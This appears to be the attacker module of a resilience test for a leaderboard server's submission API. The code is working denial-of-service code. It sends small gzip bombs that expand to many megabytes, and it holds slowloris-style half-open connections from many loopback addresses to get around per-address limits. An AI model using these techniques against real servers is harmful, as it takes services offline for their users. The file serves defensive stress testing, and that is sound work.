"""The attacker of leaderboard_attack.py: expensive files, and connections that stay silent."""

from __future__ import annotations

import asyncio
import gzip
import signal
from collections import Counter
from itertools import count
from multiprocessing.connection import Connection as Pipe

from load_generator import Connection

#: Lines of a file of 5 to 7 KB that unpacks to 5 to 20 MB.
N_LINES = 2_600_000
#: Silent connections come from these: the limit per address is not what stops them.
ADDRESSES = [f"127.0.0.{i}" for i in range(2, 31)]
_ATTACKER = "127.0.0.31"
#: What silent connections send: nothing, half a header, half a form (read without a token).
_BEGINNINGS = [
    b"",
    b"GET / HTTP/1.1\r\nHost: x\r\nX-Header: ",
    b"POST /team HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 60000\r\n\r\ntoken=",
]


def expensive_files() -> list[bytes]:
    """Return the worst files that were found, as gzip."""
    head = b"Declaration ID,Fraud Score\n"
    return [
        gzip.compress(head + line * N_LINES)
        for line in (b"9\n", b'"",""\n', b'"9","9"\n', b"9,9\n", b"9,9,9\n")
    ]


def attack(
    host: str, port: int, token: str, n_connections: int, n_silent: int, report: Pipe
) -> None:
    """Say "ready", and attack until SIGTERM; then report how often each status was answered."""
    report.send(asyncio.run(_attack(host, port, token, n_connections, n_silent, report)))


async def _attack(
    host: str, port: int, token: str, n_connections: int, n_silent: int, report: Pipe
) -> dict[str, object]:
    statuses: Counter[str] = Counter()
    openings: Counter[str] = Counter()
    files = expensive_files()
    ended = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, ended.set)
    tasks = [
        asyncio.create_task(_send_again_and_again(host, port, token, files, i, statuses))
        for i in range(n_connections)
    ]
    tasks += [asyncio.create_task(_stay_silent(host, port, i, openings)) for i in range(n_silent)]
    report.send("ready")
    await ended.wait()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return {
        "attacker_answers": dict(sorted(statuses.items())),
        "silent_opened": openings["opened"],
        "silent_refused": openings["refused"],
    }


async def _send_again_and_again(
    host: str, port: int, token: str, files: list[bytes], first: int, statuses: Counter[str]
) -> None:
    headers = f"Authorization: Bearer {token}\r\nContent-Type: application/gzip\r\n"
    connection: Connection | None = None
    for i in count(first):
        try:
            if connection is None:
                connection = Connection(host, port, source=_ATTACKER)
                await connection.open()
            status, _ = await connection.ask(
                "POST", "/api/v1/submissions", headers, files[i % len(files)]
            )
            statuses[str(status)] += 1
        except (OSError, asyncio.IncompleteReadError, ValueError):
            statuses["connection lost"] += 1
            connection = None
            await asyncio.sleep(0.1)


async def _stay_silent(host: str, port: int, number: int, openings: Counter[str]) -> None:
    """Keep a connection open; open it again when the server has closed it."""
    source = (ADDRESSES[number % len(ADDRESSES)], 0)
    for i in count(number):
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=source)
            openings["opened"] += 1
            writer.write(_BEGINNINGS[i % len(_BEGINNINGS)])
            await writer.drain()
            while await reader.read(4096):
                pass
            writer.close()
        except OSError:
            openings["refused"] += 1
        await asyncio.sleep(0.1)
